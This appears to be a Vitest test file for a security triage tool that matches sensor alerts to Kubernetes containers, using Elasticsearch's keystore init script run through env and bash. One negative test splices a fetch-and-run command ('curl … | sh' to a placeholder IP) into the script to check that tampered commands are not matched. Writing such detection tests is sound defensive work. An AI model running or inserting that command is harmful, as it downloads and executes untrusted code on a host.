import { describe, expect, it } from 'vitest';
import { commandMatches, correlate } from '../../src/triage/correlate.js';
import type { ContainerSpec } from '../../src/cluster/model.js';
import { alert, indexOf, node, pod } from '../support/cluster.js';

// ECK's keystore init container: command [/usr/bin/env, bash, -c, <script>]; a node sensor (Defender) sees the script's
// elasticsearch-keystore with the env-started bash, its whole script flattened into one command line, as parent.
const SCRIPT = 'set -eux\necho "Initializing keystore."\n/usr/share/elasticsearch/bin/elasticsearch-keystore create\nfor filename in /mnt/elastic-internal/secure-settings/*; do\n\tkey=$(basename "$filename")\n\t/usr/share/elasticsearch/bin/elasticsearch-keystore add-file "$key" "$filename"\ndone\n';
const keystore: ContainerSpec = { name: 'elastic-internal-init-keystore', image: 'docker.elastic.co/elasticsearch/elasticsearch:8.15.3', command: ['/usr/bin/env', 'bash', '-c', SCRIPT] };
const N1 = 'node-a';
const es = pod('logs-es-default-0', { namespace: 'logging', node: N1, ip: '10.0.1.41', owner: { kind: 'StatefulSet', name: 'logs-es-default' }, containers: [{ name: 'elasticsearch', image: 'docker.elastic.co/elasticsearch/elasticsearch:8.15.3' }] });
es.spec.initContainers = [keystore];
const index = indexOf([node(N1, '10.0.1.10'), es]);
const ADD = '/usr/share/elasticsearch/bin/elasticsearch-keystore add-file s3.client.default.credentials_file /mnt/elastic-internal/secure-settings/s3.client.default.credentials_file';

function placedUnder(parent: string) {
  const a = alert({ host: N1, time: '2026-11-26T09:20:33.000Z', process: { name: 'elasticsearch-keystore', commandLine: ADD }, ancestors: [{ name: 'bash', commandLine: parent }, { name: 'env' }] });
  const s = correlate(a, index).subject;
  return s.pod ? `${s.pod.metadata.name}/${s.container?.spec.name}` : undefined;
}

describe('env-wrapped shell scripts (env [-i] [NAME=value] sh -c …)', () => {
  it('the spec command and its flattened sight match', () => {
    expect(commandMatches(`/usr/bin/env bash -c ${SCRIPT}`, keystore.command!)).toBe(true);
    expect(commandMatches(`env -i LANG=C bash -c ${SCRIPT}`, ['env', '-i', 'LANG=C', 'bash', '-c', SCRIPT])).toBe(true);
  });

  it("places the script's child in the init container on that node", () => {
    expect(placedUnder(`/usr/bin/env bash -c ${SCRIPT}`)).toBe('logs-es-default-0/elastic-internal-init-keystore');
  });

  it('not another script, and not env options that change what runs', () => {
    expect(placedUnder(`/usr/bin/env bash -c ${SCRIPT.replace('create', 'create; curl -s http://198.51.100.7/x | sh')}`)).toBeUndefined();
    expect(commandMatches(`/usr/bin/env -S bash -c ${SCRIPT}`, keystore.command!)).toBe(false);
  });
});
